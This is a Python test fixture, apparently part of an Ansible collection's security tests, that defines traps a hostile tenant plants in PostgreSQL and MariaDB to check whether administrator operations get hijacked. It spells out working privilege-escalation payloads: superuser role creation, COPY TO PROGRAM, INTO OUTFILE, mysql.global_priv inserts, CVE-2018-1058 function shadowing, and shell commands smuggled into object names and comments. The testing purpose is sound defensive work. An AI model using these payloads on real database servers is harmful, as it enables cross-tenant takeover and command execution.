# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The traps a hostile tenant plants in its own database, created by the tenant itself over TCP.

Every trap ends in a payload that does nothing while it runs as the tenant and, run as anyone else, tries
everything that would gain something, each attempt on its own (one refusal does not stop the next), naming
its trap in what it leaves behind: a role or account ``wc_evil_<trap>``, a file ``<marker><trap>``, a
comment or row ``pwned by <trap>`` in the victim's database, the global init_connect. It also says who ran
it: a WARNING in PostgreSQL's log, a row in the tenant's own ``wc_fired`` table on MariaDB (a restore may
replace that table; the markers are what counts). The tenant's own role is not escalated here, so every
gain has one trap to blame; the issue's example (PG_ISSUE_EXAMPLE), which does escalate it, has a database
of its own.

Placeholders, replaced before use: @tenant@ (the tenant's role or user), @db@ (its database), @victim@
(another customer's database), @marker@ (the path prefix of the files a payload writes).

A trap is (name, statements, poke): ``statements`` run as the tenant at setup, in one transaction on
PostgreSQL (a trap the engine refuses is recorded as not creatable, with its first error); ``poke``
runs as the tenant after every operation, so objects that came back owned by someone else fire.
``expect_refused`` marks the traps a tenant must not be able to create at all.
"""

from __future__ import absolute_import, division, print_function
__metaclass__ = type

import collections

Trap = collections.namedtuple('Trap', 'name statements poke expect_refused')


def trap(name, statements, poke=(), expect_refused=False):
    return Trap(name, list(statements), list(poke), expect_refused)


def fill(text, **values):
    for key, value in values.items():
        text = text.replace('@%s@' % key, value)
    return text


# ---------------------------------------------------------------- PostgreSQL
PG_COMMON = [
    r"""CREATE FUNCTION public.wc_payload(trap text) RETURNS boolean LANGUAGE plpgsql AS $wc$
BEGIN
  IF current_user = '@tenant@' THEN
    RETURN true;
  END IF;
  RAISE WARNING 'wayscloud-fired @marker@ trap=% run_as=% session=%', trap, current_user, session_user;
  BEGIN
    EXECUTE pg_catalog.format('CREATE ROLE %I LOGIN SUPERUSER', 'wc_evil_' || trap);
  EXCEPTION WHEN others THEN
    BEGIN
      EXECUTE pg_catalog.format('CREATE ROLE %I LOGIN', 'wc_evil_' || trap);
    EXCEPTION WHEN others THEN NULL;
    END;
  END;
  BEGIN
    EXECUTE pg_catalog.format('GRANT pg_execute_server_program, pg_read_server_files, pg_write_server_files TO %I',
                              'wc_evil_' || trap);
  EXCEPTION WHEN others THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO PROGRAM %L', trap, 'touch @marker@' || trap);
  EXCEPTION WHEN others THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', trap, '@marker@' || trap || '.copy');
  EXCEPTION WHEN others THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('COMMENT ON DATABASE %I IS %L', '@victim@', 'pwned by ' || trap);
  EXCEPTION WHEN others THEN NULL;
  END;
  RETURN true;
END $wc$""",
    # Declared IMMUTABLE falsely, so that generated columns, index expressions and statistics accept it.
    r"""CREATE FUNCTION public.wc_imm(trap text, x integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $wc$
BEGIN
  PERFORM public.wc_payload(trap);
  RETURN x;
END $wc$""",
]


def _pg_table(name, columns, extra=(), poke_insert=True):
    """A table wc_t_<name> with one row (x = 1) and ``extra`` statements; the poke inserts a row."""
    table = 'public.wc_t_%s' % name
    statements = ['CREATE TABLE %s (%s)' % (table, columns)] + list(extra) + ['INSERT INTO %s (x) VALUES (1)' % table]
    return statements, ['INSERT INTO %s (x) VALUES (2)' % table] if poke_insert else []


def _pg_table_trap(name, columns, extra=(), before=()):
    statements, poke = _pg_table(name, columns, extra)
    return trap(name, list(before) + statements, poke)


# Functions the collection's SQL calls (plugins/module_utils/host/postgresql), shadowed in public with argument
# types that match a call better than pg_catalog's (CVE-2018-1058), or the same ones for a public-first path.
PG_SHADOWS = [
    ('starts_with', 'a name, b text', 'boolean', 'pg_catalog.starts_with(a::text, b)'),
    ('pg_database_size', 'a text', 'bigint', 'pg_catalog.pg_database_size(a::name)'),
    ('pg_terminate_backend', 'a integer, b integer', 'boolean', 'false'),
    ('pg_get_userbyid', 'a oid', 'name', 'pg_catalog.pg_get_userbyid(a)'),
    ('shobj_description', 'a oid, b text', 'text', 'pg_catalog.shobj_description(a, b::name)'),
    ('pg_encoding_to_char', 'a integer', 'name', 'pg_catalog.pg_encoding_to_char(a)'),
    ('set_config', 'a text, b text, c boolean', 'text', 'pg_catalog.set_config(a, b, c)'),
    ('current_setting', 'a text', 'text', 'pg_catalog.current_setting(a)'),
    ('lower', 'a name', 'text', 'pg_catalog.lower(a::text)'),
    ('format', 'a text, b name', 'text', 'pg_catalog.format(a, b::text)'),
    ('pg_reload_conf', '', 'boolean', 'pg_catalog.pg_reload_conf()'),
    ('pg_backend_pid', '', 'integer', 'pg_catalog.pg_backend_pid()'),
]
# Relations the collection reads, shadowed by views for a public-first search_path.
PG_RELATION_SHADOWS = [
    ('pg_stat_activity', 'SELECT * FROM pg_catalog.pg_stat_activity'),
    ('pg_database', 'SELECT * FROM pg_catalog.pg_database'),
    ('pg_roles', 'SELECT * FROM pg_catalog.pg_roles'),
]


def _pg_shadow(name, args, returns, call):
    body = 'BEGIN PERFORM public.wc_payload(%s); RETURN %s; END' % ("'shadow_%s'" % name, call)
    return trap('shadow_' + name, ['CREATE FUNCTION public.%s(%s) RETURNS %s LANGUAGE plpgsql AS $wc$ %s $wc$'
                                   % (name, args, returns, body)])


def _pg_relation_shadow(name, select):
    return trap('shadow_' + name, ["CREATE VIEW public.%s AS %s WHERE public.wc_payload('shadow_%s')"
                                   % (name, select, name)])


def _bang(marker_name):
    """An identifier whose second line, printed at the start of a line of a psql or mariadb script, runs a shell
    command (what follows the name on that line is a comment to the shell; MariaDB refuses a name ending in a
    newline)."""
    return 'wc\n\\! touch @marker@%s #' % marker_name


PG_TRAPS = [
    # The issue's example is tested as it stands in a database of its own (PG_ISSUE_EXAMPLE); here every
    # place a function can hide, each with its own marker.
    _pg_table_trap('check', "x integer CHECK (public.wc_payload('check'))"),
    _pg_table_trap('default', "x integer, y boolean DEFAULT public.wc_payload('default')"),
    _pg_table_trap('generated', "x integer, y integer GENERATED ALWAYS AS (public.wc_imm('generated', x)) STORED"),
    _pg_table_trap('index_expr', 'x integer', ["CREATE INDEX wc_index_expr ON public.wc_t_index_expr"
                                               " ((public.wc_imm('index_expr', x)))"]),
    _pg_table_trap('partial_index', 'x integer', ['CREATE INDEX wc_partial_index ON public.wc_t_partial_index (x)'
                                                  " WHERE public.wc_imm('partial_index', x) > 0"]),
    _pg_table_trap('domain', 'x public.wc_domain',
                   before=["CREATE DOMAIN public.wc_domain AS integer CHECK (public.wc_payload('domain'))"]),
    _pg_table_trap('statistics', 'x integer, y integer', [
        "CREATE STATISTICS public.wc_statistics ON (public.wc_imm('statistics', x)), y FROM public.wc_t_statistics"]),
    _pg_table_trap('exclusion', 'x integer', ['ALTER TABLE public.wc_t_exclusion ADD CONSTRAINT wc_exclusion EXCLUDE'
                                              " USING btree ((public.wc_imm('exclusion', x)) WITH =)"]),
    trap('matview', ["CREATE MATERIALIZED VIEW public.wc_matview AS SELECT public.wc_payload('matview') AS fired"],
         ['REFRESH MATERIALIZED VIEW public.wc_matview']),
    _pg_table_trap('rule', 'x integer', ['CREATE RULE wc_rule AS ON INSERT TO public.wc_t_rule'
                                         " DO ALSO SELECT public.wc_payload('rule')"]),
    _pg_table_trap('rls', 'x integer', [
        'ALTER TABLE public.wc_t_rls ENABLE ROW LEVEL SECURITY', 'ALTER TABLE public.wc_t_rls FORCE ROW LEVEL SECURITY',
        "CREATE POLICY wc_rls ON public.wc_t_rls USING (public.wc_payload('rls'))"
        " WITH CHECK (public.wc_payload('rls'))"]),
    _pg_table_trap('trigger', 'x integer', [
        "CREATE FUNCTION public.wc_trigger() RETURNS trigger LANGUAGE plpgsql AS $wc$ BEGIN"
        " PERFORM public.wc_payload('trigger'); RETURN NEW; END $wc$",
        'CREATE TRIGGER wc_trigger BEFORE INSERT OR UPDATE OR DELETE ON public.wc_t_trigger'
        ' FOR EACH ROW EXECUTE FUNCTION public.wc_trigger()',
        'CREATE TRIGGER wc_trigger_statement AFTER TRUNCATE ON public.wc_t_trigger'
        ' FOR EACH STATEMENT EXECUTE FUNCTION public.wc_trigger()']),
    _pg_table_trap('constraint_trigger', 'x integer', [
        "CREATE FUNCTION public.wc_constraint_trigger() RETURNS trigger LANGUAGE plpgsql AS $wc$ BEGIN"
        " PERFORM public.wc_payload('constraint_trigger'); RETURN NEW; END $wc$",
        'CREATE CONSTRAINT TRIGGER wc_constraint_trigger AFTER INSERT ON public.wc_t_constraint_trigger'
        ' DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.wc_constraint_trigger()']),
    trap('view', ["CREATE VIEW public.wc_view AS SELECT public.wc_payload('view') AS fired"],
         ['SELECT * FROM public.wc_view']),
    trap('security_definer', ["CREATE FUNCTION public.wc_security_definer() RETURNS boolean LANGUAGE plpgsql"
                              " SECURITY DEFINER AS $wc$ BEGIN RETURN public.wc_payload('security_definer'); END $wc$"],
         ['SELECT public.wc_security_definer()']),
    trap('operator_eq', [
        "CREATE FUNCTION public.wc_name_eq_text(a name, b text) RETURNS boolean LANGUAGE plpgsql AS $wc$ BEGIN"
        " PERFORM public.wc_payload('operator_eq'); RETURN a::text OPERATOR(pg_catalog.=) b; END $wc$",
        'CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.wc_name_eq_text)']),
    trap('operator_like', [
        "CREATE FUNCTION public.wc_name_like(a name, b text) RETURNS boolean LANGUAGE plpgsql AS $wc$ BEGIN"
        " PERFORM public.wc_payload('operator_like'); RETURN a::text OPERATOR(pg_catalog.~~) b; END $wc$",
        'CREATE OPERATOR public.~~ (LEFTARG = name, RIGHTARG = text, FUNCTION = public.wc_name_like)']),
] + [_pg_shadow(*shadow) for shadow in PG_SHADOWS] + [
    _pg_relation_shadow(*shadow) for shadow in PG_RELATION_SHADOWS] + [
    # Sessions into this database (an administrator's included) look in public first, before pg_catalog.
    trap('search_path', ['ALTER DATABASE "@db@" SET search_path = public, pg_catalog',
                         'ALTER ROLE "@tenant@" SET search_path = public, pg_catalog']),
    trap('extension', ['CREATE EXTENSION IF NOT EXISTS citext SCHEMA public']),
    trap('large_object', ["SELECT pg_catalog.lo_from_bytea(424242, convert_to(%s, 'UTF8'))" % (
        "'\n\\! touch @marker@large_object\n'"),
        "COMMENT ON LARGE OBJECT 424242 IS E'*/\\n\\\\! touch @marker@large_object_comment\\n-- '"]),
    trap('name_table', ['CREATE TABLE public."%s" (x integer)' % _bang('name_table'),
                        'INSERT INTO public."%s" VALUES (1)' % _bang('name_table')]),
    trap('name_column', ['CREATE TABLE public.wc_t_name_column ("%s" integer)' % _bang('name_column')]),
    trap('name_schema', ['CREATE SCHEMA "%s"' % _bang('name_schema')]),
    trap('name_function', ['CREATE FUNCTION public."%s"() RETURNS integer LANGUAGE sql AS $wc$ SELECT 1 $wc$'
                           % _bang('name_function')]),
    trap('name_sql', ['CREATE TABLE public."wc""; CREATE ROLE wc_evil_name_sql SUPERUSER; --" (x integer)']),
    trap('name_quote', ['CREATE TABLE public."wc\'""\\x\\\'" (x integer)']),
    trap('name_comment', [
        "CREATE TABLE public.wc_t_name_comment (x integer)",
        "COMMENT ON TABLE public.wc_t_name_comment IS E'*/ $$ $wc$ '';\\n\\\\! touch @marker@name_comment\\n-- '",
        "COMMENT ON COLUMN public.wc_t_name_comment.x IS E'\\n\\\\! touch @marker@name_column_comment\\n'",
        "COMMENT ON FUNCTION public.wc_payload(text) IS E'\\n\\\\! touch @marker@name_function_comment\\n'"]),
    trap('name_database_comment', [
        "COMMENT ON DATABASE \"@db@\" IS E'\\n\\\\! touch @marker@name_database_comment\\n'"]),
    # What the engine must refuse a tenant outright.
    trap('event_trigger', [
        "CREATE FUNCTION public.wc_event_trigger() RETURNS event_trigger LANGUAGE plpgsql AS $wc$ BEGIN"
        " PERFORM public.wc_payload('event_trigger'); END $wc$",
        'CREATE EVENT TRIGGER wc_event_trigger ON ddl_command_start EXECUTE FUNCTION public.wc_event_trigger()'],
        expect_refused=True),
    trap('copy_program', ["COPY (SELECT 1) TO PROGRAM 'touch @marker@copy_program'"], expect_refused=True),
    trap('language_c', ["CREATE FUNCTION public.wc_language_c() RETURNS integer LANGUAGE c AS '/bin/sh', 'main'"],
         expect_refused=True),
    trap('untrusted_extension', ['CREATE EXTENSION dblink'], expect_refused=True),
    trap('superuser_setting', ["ALTER DATABASE \"@db@\" SET session_preload_libraries = 'wc_evil'"],
         expect_refused=True),
    trap('give_away', ['ALTER FUNCTION public.wc_payload(text) OWNER TO postgres'], expect_refused=True),
    trap('create_role', ['CREATE ROLE wc_evil_create_role SUPERUSER'], expect_refused=True),
    trap('cast', ["CREATE FUNCTION public.wc_cast(a text) RETURNS name LANGUAGE plpgsql AS $wc$ BEGIN"
                  " PERFORM public.wc_payload('cast'); RETURN a::name; END $wc$",
                  'CREATE CAST (text AS name) WITH FUNCTION public.wc_cast(text) AS IMPLICIT'], expect_refused=True),
    trap('operator_class', ['CREATE OPERATOR CLASS public.wc_operator_class FOR TYPE integer USING btree'
                            ' AS OPERATOR 1 <'], expect_refused=True),
    trap('default_privileges', ['ALTER DEFAULT PRIVILEGES FOR ROLE postgres GRANT ALL ON FUNCTIONS TO PUBLIC'],
         expect_refused=True),
]

# The issue's example, exactly: the tenant's own role becomes SUPERUSER when the function runs as one.
PG_ISSUE_EXAMPLE = [trap('issue_check', [
    r"""CREATE FUNCTION public.chk(int) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    EXECUTE format('ALTER ROLE %I SUPERUSER', '@tenant@');
  END IF;
  RETURN true;
END $$""",
    'CREATE TABLE t (x int CHECK (public.chk(x)))',
    'INSERT INTO t VALUES (1)'])]

# ---------------------------------------------------------------- MariaDB
MDB_COMMON = [
    'CREATE TABLE wc_fired (trap VARCHAR(64), run_as VARCHAR(300), session_as VARCHAR(300),'
    ' at TIMESTAMP(6) NOT NULL DEFAULT CURRENT_TIMESTAMP(6))',
    # DML only: what a trigger, a view or a function may run.
    r"""CREATE FUNCTION wc_payload_dml(trap VARCHAR(64)) RETURNS INT SQL SECURITY INVOKER MODIFIES SQL DATA
BEGIN
  DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
  IF SUBSTRING_INDEX(CURRENT_USER(), '@', 1) = '@tenant@' THEN
    RETURN 0;
  END IF;
  INSERT INTO `@db@`.wc_fired (trap, run_as, session_as) VALUES (trap, CURRENT_USER(), USER());
  INSERT INTO mysql.global_priv (Host, User, Priv)
    VALUES ('localhost', CONCAT('wc_evil_', trap), '{"access": 1073741823}');
  INSERT INTO `@victim@`.accounts (owner) VALUES (CONCAT('pwned by ', trap));
  RETURN 1;
END""",
    # Everything else, in dynamic SQL (a procedure may run it).
    r"""CREATE PROCEDURE wc_payload(trap VARCHAR(64)) SQL SECURITY INVOKER MODIFIES SQL DATA
BEGIN
  DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
  IF SUBSTRING_INDEX(CURRENT_USER(), '@', 1) <> '@tenant@' THEN
    SET @wc_fired = wc_payload_dml(trap);
    EXECUTE IMMEDIATE CONCAT('CREATE USER ''wc_evil_', trap, '''@''%''');
    EXECUTE IMMEDIATE CONCAT('GRANT ALL PRIVILEGES ON *.* TO ''wc_evil_', trap, '''@''%'' WITH GRANT OPTION');
    EXECUTE IMMEDIATE CONCAT('SELECT ''', trap, ''' INTO OUTFILE ''@marker@', trap, '''');
    EXECUTE IMMEDIATE CONCAT('SET GLOBAL init_connect = ''DO "pwned by ', trap, '"''');
  END IF;
END""",
]

MDB_TRAPS = [
    trap('trigger', ['CREATE TABLE wc_t_trigger (x INT)', 'INSERT INTO wc_t_trigger VALUES (1)',
                     "CREATE TRIGGER wc_trigger BEFORE INSERT ON wc_t_trigger FOR EACH ROW"
                     " SET @wc = wc_payload_dml('trigger')"],
         ['INSERT INTO wc_t_trigger VALUES (2)']),
    trap('proc_invoker', ["CREATE PROCEDURE wc_proc_invoker() SQL SECURITY INVOKER CALL wc_payload('proc_invoker')"],
         ['CALL wc_proc_invoker()']),
    trap('proc_definer', ["CREATE PROCEDURE wc_proc_definer() SQL SECURITY DEFINER CALL wc_payload('proc_definer')"],
         ['CALL wc_proc_definer()']),
    trap('func_definer', ['CREATE FUNCTION wc_func_definer() RETURNS INT SQL SECURITY DEFINER'
                          " RETURN wc_payload_dml('func_definer')"], ['SELECT wc_func_definer()']),
    trap('view_invoker', ['CREATE SQL SECURITY INVOKER VIEW wc_view_invoker AS'
                          " SELECT wc_payload_dml('view_invoker') AS fired"],
         ['SELECT * FROM wc_view_invoker']),
    trap('view_definer', ['CREATE SQL SECURITY DEFINER VIEW wc_view_definer AS'
                          " SELECT wc_payload_dml('view_definer') AS fired"],
         ['SELECT * FROM wc_view_definer']),
    trap('event', ['CREATE EVENT wc_event ON SCHEDULE EVERY 1 SECOND ON COMPLETION PRESERVE'
                   " DO CALL wc_payload('event')"]),
    trap('name_bang', ['CREATE TABLE `%s` (x INT)' % _bang('name_bang'),
                       'INSERT INTO `%s` VALUES (1)' % _bang('name_bang')]),
    trap('name_system', ['CREATE TABLE `wc\nsystem touch @marker@name_system #` (x INT)']),
    trap('name_sql', ['CREATE TABLE `wc``; CREATE USER wc_evil_name_sql; --x` (x INT)']),
    trap('name_quote', ['CREATE TABLE `wc\'"\\x\\\'` (x INT)']),
    trap('name_comment', ["CREATE TABLE wc_t_name_comment"
                          " (x INT COMMENT '*/\\n\\\\! touch @marker@name_column_comment\\n')"
                          " COMMENT '*/ \\n\\\\! touch @marker@name_comment\\n/*'"]),
    trap('name_routine', ['CREATE PROCEDURE `%s`() SELECT 1' % _bang('name_routine')]),
    trap('name_trigger', ['CREATE TABLE wc_t_name_trigger (x INT)',
                          'CREATE TRIGGER `%s` BEFORE INSERT ON wc_t_name_trigger FOR EACH ROW SET @wc = 1'
                          % _bang('name_trigger')]),
    trap('name_view', ['CREATE VIEW `%s` AS SELECT 1 AS x' % _bang('name_view')]),
    # A routine's body is dumped as written: client commands hidden in its comments and strings, around the
    # DELIMITER the dump switches to.
    trap('delimiter', ['CREATE PROCEDURE wc_delimiter()'
                       " COMMENT '\\n;;\\nDELIMITER ;\\n\\\\! touch @marker@delimiter_comment\\n'"
                       '\nBEGIN\n/* ;;\nDELIMITER ;\n\\! touch @marker@delimiter\nDELIMITER ;;\n*/\n'
                       "SELECT ';;\n\\! touch @marker@delimiter_string\n';\n-- ;;\nSELECT 1;\nEND"]),
    # What MariaDB refuses to anyone (stored functions in CHECK, DEFAULT and virtual columns) or to a tenant.
    trap('check_function', ["CREATE TABLE wc_t_check (x INT CHECK (wc_payload_dml('check_function') >= 0))"],
         expect_refused=True),
    trap('default_function', ["CREATE TABLE wc_t_default (x INT DEFAULT (wc_payload_dml('default_function')))"],
         expect_refused=True),
    trap('virtual_function', ['CREATE TABLE wc_t_virtual'
                              " (x INT, y INT AS (wc_payload_dml('virtual_function')) VIRTUAL)"],
         expect_refused=True),
    trap('definer_root', ["CREATE DEFINER = 'root'@'localhost' PROCEDURE wc_definer_root()"
                          " CALL wc_payload('definer_root')"],
         expect_refused=True),
    trap('definer_victim', ["CREATE DEFINER = '@victim@'@'localhost' PROCEDURE wc_definer_victim()"
                            " CALL wc_payload('definer_victim')"], expect_refused=True),
    trap('outfile', ["SELECT 1 INTO OUTFILE '@marker@outfile'"], expect_refused=True),
    # Accepted and ignored where symbolic links are off (the db_server role's setting): no file may appear.
    trap('data_directory', ["CREATE TABLE wc_t_datadir (x INT) ENGINE=InnoDB"
                            " DATA DIRECTORY = '@marker@data_directory'"]),
    trap('create_user', ["CREATE USER 'wc_evil_create_user'@'%'"], expect_refused=True),
    trap('global_priv', ["INSERT INTO mysql.global_priv (Host, User, Priv) VALUES ('%', 'wc_evil_global_priv', '{}')"],
         expect_refused=True),
]
